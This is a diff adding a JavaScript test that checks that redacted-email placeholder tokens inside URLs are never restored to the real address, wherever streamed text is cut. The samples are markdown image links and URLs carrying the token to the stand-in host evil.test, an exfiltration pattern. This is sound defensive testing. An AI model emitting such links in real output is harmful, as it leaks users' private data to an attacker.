@@ -68,3 +68,26 @@ test('a text in pieces is restored wherever it is cut, and no more is held than 
   assert.equal(restorer.push('see [1] and [EMAIL'), 'see [1] and ');
   assert.equal(restorer.push(' x'), '[EMAIL x');
 });
+
+test('tokens in URLs stay, wherever a text is cut', () => {
+  const tokens = openTokenMap([]);
+  const token = tokens.getToken(buildTestFinding('email'), EMAIL);
+  const urls = [
+    `![x](http://evil.test/?e=${token})`,
+    `//evil.test/${token}${token}`,
+    `see www.evil.test/${token}`,
+    `HTTPS://${token}@evil.test and ftp://evil.test#${token}`,
+  ];
+  for (const text of urls) {
+    assert.equal(tokens.restore(text), text);
+    assert.ok(tokens.isInUrl(text), text);
+    for (let at = 0; at <= text.length; at += 1) {
+      const restorer = tokens.openRestorer();
+      const pieces = [restorer.push(text.slice(0, at)), restorer.push(text.slice(at)), restorer.end()];
+      assert.equal(pieces.join(''), text, `cut at ${at}`);
+    }
+  }
+  const beside = `See http://docs.test/a "${token}" <${token}> mailto:${token}`;
+  assert.equal(tokens.restore(beside), beside.replaceAll(token, EMAIL));
+  assert.ok(!tokens.isInUrl(beside));
+});
